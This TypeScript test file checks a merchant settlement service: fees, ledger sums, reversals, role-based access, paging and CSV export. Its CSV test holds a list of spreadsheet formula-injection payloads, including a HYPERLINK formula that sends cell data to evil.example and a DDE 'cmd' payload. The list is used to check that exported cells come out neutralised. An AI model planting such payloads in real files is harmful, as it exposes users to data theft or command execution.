/** Settlements on a real database: each use once, every sum in the ledger, and files nobody has to fear. */
import { sql } from 'kysely'
import { parse } from 'csv-parse/sync'
import { afterAll, beforeEach, describe, expect, test } from 'vitest'
import type { Actor } from '../../kernel/actor.ts'
import { aPerson, testId, theSystem } from '../../kernel/testing.ts'
import { openHttp } from '../../platform/http.ts'
import type { Work } from '../../platform/work.ts'
import { freshDatabase } from '../../../testing/pg.ts'
import { balanceOf, ledgerInvariants } from '../ledger/service.ts'
import { billPaid, billReturned, couponRedeemed, redemptionReversed } from '../offers/events.ts'
import { createOffer } from '../offers/service.ts'
import { anOffer } from '../offers/testing.ts'
import { createPerson } from '../people/service.ts'
import { settlementOf } from './model.ts'
import { settlementReactions } from './reactions.ts'
import { settlementRoutes } from './routes.ts'
import { settle, settlementInvariants } from './service.ts'

const { platform, inWork, clear, rows, db, at: setClock, runReactions } = await freshDatabase()
const merchantId = testId('merchant')
const october = new Date('2026-10-20T03:00:00.000Z')
const november = new Date('2026-11-10T03:00:00.000Z')
const actors: Record<string, Actor> = {
  operator_token: aPerson({ number: 80, isOperator: true }),
  owner_token: aPerson({ number: 90, memberships: [{ merchantId, role: 'owner' }] }),
  staff_token: aPerson({ number: 91, memberships: [{ merchantId, role: 'staff' }] }),
  other_token: aPerson({
    number: 92,
    memberships: [{ merchantId: testId('merchant', 2), role: 'owner' }],
  }),
}
const http = await openHttp({
  ...platform,
  clock: () => platform.clock(),
  authenticate: (token) => actors[token] ?? { kind: 'nobody' },
})
settlementRoutes(http)
await http.app.ready()
afterAll(() => http.app.close())

async function call(as: string, method: 'GET' | 'POST', url: string, body?: object) {
  const response = await http.app.inject({
    method,
    url,
    headers: { authorization: `Bearer ${as}_token` },
    ...(body && { payload: body }),
  })
  const isJson = String(response.headers['content-type']).includes('json')
  // oxlint-disable-next-line typescript/no-explicit-any -- an answer is looked into field by field
  const answer: any = isJson ? response.json() : null
  return { status: response.statusCode, text: response.body, body: answer }
}
const settlements = `/v1/merchants/${merchantId}/settlements`

beforeEach(async () => {
  await clear()
  setClock(new Date('2026-10-01T00:00:00.000Z'))
})

type Change = { readonly discountMinor?: number; readonly isCampaign?: boolean }
const factOf = (number: number, { discountMinor = 3_000, isCampaign = true }: Change = {}) => {
  return {
    redemptionId: testId('redemption', number),
    couponId: testId('coupon', number),
    offerId: testId('offer'),
    campaignId: isCampaign ? testId('campaign') : null,
    personId: testId('person'),
    placeId: testId('place'),
    merchantId,
    billMinor: 20_000,
    discountMinor,
    pointsEarned: 0,
  }
}
/** A coupon is used, or its use undone, and what follows is worked off. */
async function happens(
  kind: typeof couponRedeemed | typeof redemptionReversed,
  number: number,
  at: Date,
  change?: Change,
) {
  await inWork(
    theSystem,
    async (work) => {
      work.announce(kind, factOf(number, change))
      return Promise.resolve()
    },
    { at },
  )
  await runReactions([settlementReactions])
}
const setFees = (redemptionMinor: number, campaignSharePercent: number, startsAt?: string) =>
  call('operator', 'POST', '/v1/operator/settlement-fees', {
    redemptionMinor,
    campaignSharePercent,
    ...(startsAt && { startsAt }),
  })
const inLedger = async () =>
  (await inWork(theSystem, (work) => balanceOf(work, settlementOf(merchantId)))).balance

async function brokenInvariants(): Promise<string[]> {
  const broken: string[] = []
  for (const { id, query } of [...ledgerInvariants, ...settlementInvariants]) {
    const { rows: found } = await sql.raw(query).execute(db)
    if (found.length > 0) broken.push(id)
  }
  return broken
}

describe('charging', () => {
  test('SE3 without fees every use is a line of zeros, and nothing moves', async () => {
    await happens(couponRedeemed, 1, november)
    const { body } = await call('owner', 'GET', `${settlements}/2026-11`)
    expect(body).toMatchObject({
      uses: 1,
      billMinor: 20_000,
      discountMinor: 3_000,
      feeMinor: 0,
      shareMinor: 0,
      netMinor: 0,
      fee: { redemptionMinor: 0, campaignSharePercent: 0 },
    })
    expect(await rows('ledger.transfer')).toEqual([])
  })

  test('SE1, SE4: fee and share are lines, and the ledger holds what they come to', async () => {
    await setFees(200, 50)
    await happens(couponRedeemed, 1, november)
    await happens(couponRedeemed, 2, november, { isCampaign: false })
    const { body } = await call('owner', 'GET', `${settlements}/2026-11`)
    expect(body).toMatchObject({ feeMinor: 400, shareMinor: 1_500, netMinor: 1_100 })
    expect(await inLedger()).toBe(1_100)
    expect(await brokenInvariants()).toEqual([])
  })

  test('SE9 uses of offers for everybody are lines, with the share of the market, and go back with their bill', async () => {
    const shares = { redemptionMinor: 200, campaignSharePercent: 50, automaticSharePercent: 20 }
    await call('operator', 'POST', '/v1/operator/settlement-fees', shares)
    const where = { billId: testId('bill'), merchantId, placeId: testId('place') }
    const use = {
      redemptionId: testId('redemption', 7),
      offerId: testId('offer'),
      billMinor: 20_000,
      discountMinor: 2_000,
      giftMinor: 500,
    }
    const paid = {
      ...where,
      personId: null,
      channel: 'till' as const,
      offerIds: [use.offerId],
      billMinor: 20_000,
      discountMinor: 2_000,
      points: 0,
      automaticUses: [use],
    }
    const back = { ...where, personId: null, refundMinor: 1_000, pointsBack: 0, isAll: false }
    const tell = async (told: (work: Work) => void) => {
      await inWork(theSystem, async (work) => Promise.resolve(told(work)), { at: november })
      await runReactions([settlementReactions])
    }
    await tell((work) => work.announce(billPaid, paid))
    await tell((work) => work.announce(billPaid, paid))
    // A part that comes back undoes no use.
    await tell((work) => work.announce(billReturned, back))
    const sums = async () => (await call('owner', 'GET', `${settlements}/2026-11`)).body as unknown
    expect(await sums()).toMatchObject({
      uses: 1,
      reversals: 0,
      discountMinor: 2_000,
      giftMinor: 500,
      feeMinor: 0,
      shareMinor: 500,
      netMinor: 500,
    })
    await tell((work) =>
      work.announce(billReturned, { ...back, isAll: true, automaticUses: [use] }),
    )
    expect(await sums()).toMatchObject({ uses: 1, reversals: 1, shareBackMinor: 500, netMinor: 0 })
    expect(await inLedger()).toBe(0)
    expect(await brokenInvariants()).toEqual([])
  })

  test('SE1 a use that is told twice is charged once', async () => {
    await setFees(200, 50)
    await happens(couponRedeemed, 1, november)
    await happens(couponRedeemed, 1, november)
    const use = { ...factOf(1), at: november } as never
    await inWork(theSystem, (work) => settle(work, [{ kind: 'use', isAutomatic: false, use }]))
    expect(await rows('settlement.line')).toHaveLength(1)
    expect(await inLedger()).toBe(1_300)
  })

  test('SE2 what is undone goes back as it was charged, in the month of the undoing', async () => {
    await setFees(200, 50)
    await happens(couponRedeemed, 1, october)
    await setFees(900, 0)
    await happens(redemptionReversed, 1, november)
    await happens(redemptionReversed, 1, november)
    const month = async (name: string) =>
      (await call('owner', 'GET', `${settlements}/${name}`)).body as object
    expect(await month('2026-10')).toMatchObject({ netMinor: 1_300, closingMinor: 1_300 })
    expect(await month('2026-11')).toMatchObject({
      openingMinor: 1_300,
      reversals: 1,
      feeBackMinor: 200,
      shareBackMinor: 1_500,
      netMinor: -1_300,
      closingMinor: 0,
    })
    expect(await inLedger()).toBe(0)
    expect((await call('owner', 'GET', settlements)).body.items).toEqual([
      { month: '2026-11', netMinor: -1_300 },
      { month: '2026-10', netMinor: 1_300 },
    ])
    expect(await brokenInvariants()).toEqual([])
  })

  test('SE8 who set the fees is kept, and told to operators alone', async () => {
    await inWork(theSystem, (work) =>
      createPerson(work, {
        id: testId('person', 80),
        name: '운영자',
        email: null,
        phone: '+821012345678',
        passwordHash: null,
        locale: 'ko',
      }),
    )
    expect(await setFees(200, 50)).toMatchObject({ body: { setByName: '운영자' } })
    const url = '/v1/settlement-fees'
    expect(await call('operator', 'GET', url)).toMatchObject({
      body: { items: [{ setByName: '운영자', setAt: '2026-10-01T00:00:00.000Z' }] },
    })
    expect(await call('owner', 'GET', url)).toMatchObject({
      body: { items: [{ setByName: null, redemptionMinor: 200 }] },
    })
  })

  test('SE3 only the operator sets fees, and not for the past', async () => {
    const asked = { redemptionMinor: 1, campaignSharePercent: 0 }
    expect(await call('owner', 'POST', '/v1/operator/settlement-fees', asked)).toMatchObject({
      status: 403,
    })
    expect(await setFees(1, 0, '2026-09-30T00:00:00Z')).toMatchObject({
      body: { code: 'settlement.fee-in-past' },
    })
    expect(await setFees(1, 0, '2026-10-01T00:00:00Z')).toMatchObject({ status: 201 })
    expect(await setFees(1, 0, '2026-10-01T00:00:00Z')).toMatchObject({ status: 201 })
    expect(await setFees(2, 0, '2026-10-01T00:00:00Z')).toMatchObject({
      body: { code: 'settlement.fee-differs' },
    })
  })
})

test.each([
  ['owner', 200],
  ['operator', 200],
  ['staff', 403],
  ['other', 403],
])('SE5 what %s hears of a settlement of the shop', async (as, status) => {
  for (const path of ['', '/2026-11', '/2026-11/lines', '/2026-11/lines.csv']) {
    expect(await call(as, 'GET', `${settlements}${path}`)).toMatchObject({ status })
  }
})

describe('the file', () => {
  const hostile = [
    '=HYPERLINK("http://evil.example?x="&A1,"눌러 보세요")',
    '+82-10-1234',
    '-2+3+cmd|’ /C calc’!A0',
    '@SUM(1+1)*cmd',
    '\t=1+1',
    '\r=1+1',
    '＝1+1',
    'a,"b"\n=2+2',
  ]

  test('SE7 hostile names are read back as text, and amounts as numbers', async () => {
    await setFees(200, 50)
    for (const [number, title] of hostile.entries()) {
      const id = testId('offer', number + 1)
      const endsAt = new Date('2027-01-01T00:00:00.000Z')
      const offer = anOffer({ id, merchantId, title, placeIds: [], startsAt: october, endsAt })
      await inWork(theSystem, (work) => createOffer(work, offer))
      await inWork(
        theSystem,
        async (work) => {
          work.announce(couponRedeemed, { ...factOf(number + 1), offerId: id })
          return Promise.resolve()
        },
        { at: november },
      )
    }
    await runReactions([settlementReactions])
    await happens(redemptionReversed, 1, november)
    const { text } = await call('owner', 'GET', `${settlements}/2026-11/lines.csv`)
    const [heading, ...read] = parse(text, { bom: true })
    expect(heading?.slice(0, 4)).toEqual(['일시', '구분', '지점', '혜택'])
    expect(read).toHaveLength(hostile.length + 1)
    for (const [at, cells] of read.slice(0, hostile.length).entries()) {
      for (const cell of cells) {
        if (!/^-?\d+$/.test(cell)) expect(cell).not.toMatch(/^[=+\-@\t\r＝＋－＠]/)
      }
      expect(cells[3]?.replace(/^'/, '')).toBe(hostile[at])
      expect(cells.slice(4, 10)).toEqual(['20000', '3000', '0', '-200', '1500', '1300'])
    }
    expect(read.at(-1)?.slice(4, 10)).toEqual(['-20000', '-3000', '0', '200', '-1500', '-1300'])
  })

  test('SE7 the headings come in the language that is asked for', async () => {
    const { text } = await call('owner', 'GET', `${settlements}/2026-11/lines.csv?language=en`)
    expect(text).toBe(
      '\uFEFFWhen,Kind,Place,Offer,Bill,Discount,Gift value,Fee,Borne by the market,Net,Redemption\r\n',
    )
  })

  test('SE6 the pages of a month follow each other without a gap', async () => {
    for (const number of [1, 2, 3]) await happens(couponRedeemed, number, november)
    const first = await call('owner', 'GET', `${settlements}/2026-11/lines?limit=2`)
    const { items, nextCursor } = first.body as { items: object[]; nextCursor: string }
    const second = await call('owner', 'GET', `${settlements}/2026-11/lines?cursor=${nextCursor}`)
    const all = [...items, ...(second.body.items as object[])]
    expect(all).toMatchObject(
      [1, 2, 3].map((number) => ({ redemptionId: testId('redemption', number) })),
    )
  })
})
